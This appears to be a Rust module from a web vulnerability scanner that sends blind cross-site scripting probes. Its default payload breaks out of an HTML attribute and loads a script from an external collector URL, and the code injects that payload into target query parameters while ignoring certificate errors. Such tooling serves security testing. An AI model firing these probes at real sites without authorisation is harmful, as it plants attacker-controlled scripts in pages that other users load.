// src/xss/blind.rs
//! Fire-and-forget blind XSS probes.
//!
//! A probe plants a payload that loads a script from an out-of-band
//! collector. Execution is only ever observed by that external listener, so
//! a probe's outcome here is always "submitted".

use crate::xss::error::ScanError;
use crate::xss::http_client::set_query_param;
use reqwest::Client;
use std::sync::Arc;
use std::time::Duration;
use tokio::task::JoinHandle;
use tracing::debug;
use url::Url;

pub const DEFAULT_BLIND_TEMPLATE: &str = r#""><script src="{payload_url}"></script>"#;
const PROBE_TIMEOUT_SECS: u64 = 10;

pub struct BlindNotifier {
    client: Client,
    payload_url: String,
    template: String,
}

impl BlindNotifier {
    pub fn new(payload_url: &str) -> Result<Self, ScanError> {
        let client = Client::builder()
            .no_proxy()
            .danger_accept_invalid_certs(true)
            .timeout(Duration::from_secs(PROBE_TIMEOUT_SECS))
            .build()?;

        Ok(Self {
            client,
            payload_url: payload_url.to_string(),
            template: DEFAULT_BLIND_TEMPLATE.to_string(),
        })
    }

    /// Use a custom template; `{payload_url}` is replaced by the collector URL
    pub fn with_template(mut self, template: &str) -> Self {
        self.template = template.to_string();
        self
    }

    pub fn payload(&self) -> String {
        self.template.replace("{payload_url}", &self.payload_url)
    }

    /// Send one probe with `param` set to the payload; failures are dropped
    pub async fn send(&self, url: &str, param: &str) {
        let mut target = match Url::parse(url) {
            Ok(target) => target,
            Err(e) => {
                debug!("Blind probe skipped for {}: {}", url, e);
                return;
            }
        };
        set_query_param(&mut target, param, &self.payload());

        match self.client.get(target.as_str()).send().await {
            Ok(resp) => debug!("Blind probe submitted: {} [{}] -> {}", url, param, resp.status()),
            Err(e) => debug!("Blind probe to {} [{}] failed: {}", url, param, e),
        }
    }

    /// Spawn [`send`](Self::send) without waiting for it
    pub fn dispatch(self: &Arc<Self>, url: String, param: String) -> JoinHandle<()> {
        let notifier = Arc::clone(self);
        tokio::spawn(async move { notifier.send(&url, &param).await })
    }
}
